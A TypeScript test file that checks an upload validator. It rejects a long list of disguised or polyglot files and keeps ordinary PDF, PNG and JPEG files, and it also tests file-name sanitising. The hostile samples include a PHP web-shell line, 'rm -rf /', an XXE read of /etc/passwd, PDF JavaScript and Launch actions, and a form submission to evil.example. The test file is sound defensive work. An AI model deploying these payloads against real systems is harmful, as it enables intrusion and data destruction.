/** Files that are not what they say, or more than that: none is kept; whole ones of everyday programs are. */
import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { typeOfContent } from '../../../src/server/domain/files/content-type.ts';
import { displayName } from '../../../src/server/domain/files/upload.ts';
import {
  JPEG,
  JPEG_APP,
  JPEG_END,
  JPEG_SCAN,
  JPEG_START,
  jpegFrame,
  jpegSegment,
  joined,
  PDF,
  pdf,
  PNG,
  PNG_END,
  PNG_PIXELS,
  PNG_SIGNATURE,
  pngChunk,
  pngHeader,
  zipEnd,
} from './sample-files.ts';

const text = (words: string) => joined(words);
const packed = (objects: string) => {
  const stream = deflateSync(Buffer.from(objects)).toString('latin1');
  return `3 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${stream.length} >>\nstream\n${stream}\nendstream\nendobj\n`;
};
const object = (words: string) => pdf(`3 0 obj\n<< ${words} >>\nendobj\n`);
const broken = (file: Uint8Array, at: number) => {
  const copy = Uint8Array.from(file);
  copy[at] = (copy[at] ?? 0) ^ 0xff;
  return copy;
};

const HOSTILE: readonly (readonly [string, Uint8Array])[] = [
  // what is none of the three
  ['nothing', text('')],
  ['one byte', text('%')],
  ['plain text', text('Hello')],
  ['HTML', text('<!doctype html><html><script>alert(1)</script></html>')],
  ['HTML behind a byte order mark', text('\u00ef\u00bb\u00bf<html></html>')],
  ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  [
    'XML with an outer entity',
    text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  ],
  ['PHP', text('<?php system($_GET["c"]); ?>')],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['a Windows program', joined('MZ', Buffer.alloc(200))],
  ['a Linux program', joined(Buffer.from([0x7f]), 'ELF', Buffer.alloc(200))],
  ['a macOS program', joined(Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(200))],
  ['WebAssembly', joined(Buffer.from([0]), 'asm', Buffer.from([1, 0, 0, 0]))],
  ['a ZIP archive', joined('PK\u0003\u0004', Buffer.alloc(60), zipEnd())],
  ['a gzip archive', joined(Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(60))],
  ['a RAR archive', joined('Rar!\u001a\u0007\u0000', Buffer.alloc(60))],
  ['an old Office document', joined(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600))],
  ['rich text', text('{\\rtf1\\ansi{\\object\\objocx}}')],
  ['PostScript', text('%!PS-Adobe-3.0\n(%PDF-1.7) run\n%%EOF\n')],
  ['a GIF', joined('GIF89a', Buffer.alloc(30), ';')],
  ['WebP', joined('RIFF', Buffer.from([30, 0, 0, 0]), 'WEBPVP8 ', Buffer.alloc(30))],
  ['TIFF', joined('II*\u0000', Buffer.alloc(40))],
  ['a bitmap', joined('BM', Buffer.alloc(60))],
  ['HEIC', joined(Buffer.from([0, 0, 0, 24]), 'ftypheic', Buffer.alloc(40))],
  ['a web page archive', text('MIME-Version: 1.0\nContent-Type: multipart/related\n')],
  ['a shortcut', joined(Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(60))],
  ['zeros', new Uint8Array(1000)],
  // PDF
  ['the beginning of a PDF alone', text('%PDF-1.7\n')],
  ['a PDF cut off', PDF.slice(0, -30)],
  ['a PDF without its last line', PDF.slice(0, -7)],
  ['a PDF behind other bytes', joined('GIF89a', PDF)],
  ['a PDF behind an empty line', joined('\n', PDF)],
  ['a PDF of no known version', joined('%PDF-9.9\n', PDF.slice(9))],
  ['a PDF without a version', joined('%PDF-\n', PDF.slice(9))],
  ['a PDF whose cross references lie elsewhere', text('%PDF-1.7\nstartxref\n999999\n%%EOF\n')],
  ['a PDF whose cross references are none', text('%PDF-1.7\nhello\nstartxref\n9\n%%EOF\n')],
  ['a PDF with HTML behind it', pdf('', '<html><script>alert(1)</script>')],
  ['a PDF with HTML in it', pdf('% <script>alert(1)</script>\n')],
  ['a PDF with PHP in it', pdf('% <?php echo 1; ?>\n')],
  ['a PDF with a ZIP behind it', pdf('', Buffer.from(zipEnd()).toString('latin1'))],
  ['a PDF whose end is the comment of a ZIP', joined(PDF.slice(0, -6), zipEnd('%%EOF\n'))],
  ['a PDF that runs JavaScript', object('/S /JavaScript /JS (app.alert(1))')],
  ['a PDF whose JavaScript is written in other letters', object('/S /J#61vaScript /J#53 (app.alert(1))')],
  ['a PDF whose JavaScript lies packed', pdf(packed('<< /S /JavaScript /JS (app.alert(1)) >>'))],
  ['a PDF whose packed objects are written in other letters', pdf(packed('<< /S /L#61unch >>'))],
  ['a PDF that starts a program', object('/S /Launch /F (cmd.exe)')],
  ['a PDF that carries a file', object('/Type /EmbeddedFile')],
  ['a PDF that names carried files', object('/Names << /EmbeddedFiles 4 0 R >>')],
  ['a PDF with a film that runs', object('/Subtype /RichMedia')],
  ['a PDF with an XFA form', object('/AcroForm << /XFA 4 0 R >>')],
  ['a PDF that sends a form away', object('/S /SubmitForm /F (https://evil.example)')],
  ['a PDF that fetches data', object('/S /ImportData')],
  ['a PDF that opens a carried file', object('/S /GoToE')],
  ['a PDF with an address that runs', object('/URI (javascript:alert(1))')],
  // PNG
  ['the signature of a PNG alone', joined(PNG_SIGNATURE)],
  ['a PNG cut off', PNG.slice(0, -8)],
  ['a PNG without its end', joined(PNG_SIGNATURE, pngHeader(), PNG_PIXELS)],
  ['a PNG without pixels', joined(PNG_SIGNATURE, pngHeader(), PNG_END)],
  ['a PNG with empty pixels', joined(PNG_SIGNATURE, pngHeader(), pngChunk('IDAT'), PNG_END)],
  ['a PNG without a header', joined(PNG_SIGNATURE, PNG_PIXELS, PNG_END)],
  ['a PNG with a wrong sum', broken(PNG, 30)],
  ['a PNG with a chunk that is longer than the file', broken(PNG, 33)],
  ['a PNG of no width', joined(PNG_SIGNATURE, pngHeader(0, 1), PNG_PIXELS, PNG_END)],
  ['a PNG as wide as a street', joined(PNG_SIGNATURE, pngHeader(2_000_000_000, 2_000_000_000), PNG_PIXELS, PNG_END)],
  ['a PNG with a ZIP behind it', joined(PNG, zipEnd())],
  ['a PNG with HTML behind it', joined(PNG, '<html></html>')],
  ['a PNG with a program behind it', joined(PNG, 'MZ', Buffer.alloc(100))],
  [
    'a PNG with PHP in a comment',
    joined(PNG_SIGNATURE, pngHeader(), pngChunk('tEXt', 'a\0<?php system(1)?>'), PNG_PIXELS, PNG_END),
  ],
  [
    'a PNG with a script in a comment',
    joined(PNG_SIGNATURE, pngHeader(), pngChunk('tEXt', 'a\0<ScRiPt src=x>'), PNG_PIXELS, PNG_END),
  ],
  [
    'a PNG with a picture that runs in it',
    joined(PNG_SIGNATURE, pngHeader(), pngChunk('tEXt', 'a\0<svg onload=x>'), PNG_PIXELS, PNG_END),
  ],
  ['a PNG whose signature went through a text mode', joined(Buffer.from([0x89]), 'PNG\n\u001a\n', PNG.slice(8))],
  // JPEG
  ['the beginning of a JPEG alone', joined(JPEG_START)],
  ['a JPEG cut off', JPEG.slice(0, -2)],
  ['a JPEG cut off in its head', JPEG.slice(0, 12)],
  ['a JPEG of beginning and end', joined(JPEG_START, JPEG_END)],
  ['a JPEG without a frame', joined(JPEG_START, JPEG_APP, JPEG_SCAN, JPEG_END)],
  ['a JPEG without pixels', joined(JPEG_START, JPEG_APP, jpegFrame(), JPEG_END)],
  ['a JPEG of no height', joined(JPEG_START, jpegFrame(0, 1), JPEG_SCAN, JPEG_END)],
  ['a JPEG as high as a tower', joined(JPEG_START, jpegFrame(65_535, 65_535), JPEG_SCAN, JPEG_END)],
  [
    'a JPEG with a segment that is longer than the file',
    joined(JPEG_START, Buffer.from([0xff, 0xe0, 0xff, 0xff]), JPEG_END),
  ],
  [
    'a JPEG with a segment shorter than itself',
    joined(JPEG_START, Buffer.from([0xff, 0xe0, 0, 1]), jpegFrame(), JPEG_SCAN, JPEG_END),
  ],
  ['a JPEG with a ZIP behind it', joined(JPEG, zipEnd())],
  ['a JPEG whose ZIP ends like a JPEG', joined(JPEG, zipEnd('\u00ff\u00d9'))],
  ['a JPEG with a ZIP in a comment that ends it', joined(JPEG_START, jpegFrame(), JPEG_SCAN, zipEnd('\u00ff\u00d9'))],
  ['a JPEG with HTML behind it', joined(JPEG, '<html></html>')],
  ['a JPEG with a PDF behind it', joined(JPEG, PDF)],
  [
    'a JPEG with PHP in a comment',
    joined(JPEG_START, jpegSegment(0xfe, '<?php system(1)?>'), jpegFrame(), JPEG_SCAN, JPEG_END),
  ],
  [
    'a JPEG with a script in a comment',
    joined(JPEG_START, jpegSegment(0xfe, '*/=alert(1)/*<script>'), jpegFrame(), JPEG_SCAN, JPEG_END),
  ],
  [
    'a JPEG with a frame of another site in it',
    joined(JPEG_START, jpegSegment(0xe1, '<iframe src=//evil.example>'), jpegFrame(), JPEG_SCAN, JPEG_END),
  ],
  ['a JPEG behind other bytes', joined(' ', JPEG)],
];

test('the list is long enough to mean something', () => {
  expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  expect(new Set(HOSTILE.map(([name]) => name)).size).toBe(HOSTILE.length);
});

test.each(HOSTILE)('%s is not kept', (_name, content) => {
  expect(typeOfContent(content)).toBeNull();
});

test.each([
  ['a PDF', PDF, 'application/pdf'],
  [
    'a PDF with pictures of random bytes',
    pdf(`3 0 obj\n<< /Length 9 >>\nstream\n/JS (x) /Launch\nendstream\nendobj\n`),
    'application/pdf',
  ],
  ['a PDF with packed objects', pdf(packed('<< /Type /Page >>')), 'application/pdf'],
  ['a PDF with a link', object('/URI (https://example.com)'), 'application/pdf'],
  ['a PNG', PNG, 'image/png'],
  [
    'a PNG with a comment',
    joined(PNG_SIGNATURE, pngHeader(), pngChunk('tEXt', 'Author\0Ona'), PNG_PIXELS, PNG_END),
    'image/png',
  ],
  ['a JPEG', JPEG, 'image/jpeg'],
  ['a JPEG of a phone, with a second picture behind it', joined(JPEG, JPEG), 'image/jpeg'],
  ['a JPEG with zeros behind it', joined(JPEG, Buffer.alloc(16)), 'image/jpeg'],
  [
    'a JPEG with fill bytes',
    joined(JPEG_START, Buffer.from([0xff]), JPEG_APP, jpegFrame(), JPEG_SCAN, JPEG_END),
    'image/jpeg',
  ],
] as const)('%s is kept', (_name, content, type) => {
  expect(typeOfContent(content)).toBe(type);
});

test.each([
  ['licence.pdf', 'licence.pdf'],
  ['../../etc/passwd', 'passwd'],
  ['C:\\Users\\ona\\licence.pdf', 'licence.pdf'],
  ['a\u0000b\r\nc.pdf', 'abc.pdf'],
  ['fdp.\u202eexe', 'fdp.exe'],
  ['사업자등록증.pdf', '사업자등록증.pdf'],
  ['', 'file'],
  ['..', 'file'],
  ['/', 'file'],
  ['x'.repeat(300), 'x'.repeat(120)],
  ['  two   words.pdf ', 'two words.pdf'],
])('the name %j is read as %j', (given, shown) => {
  expect(displayName(given)).toBe(shown);
});
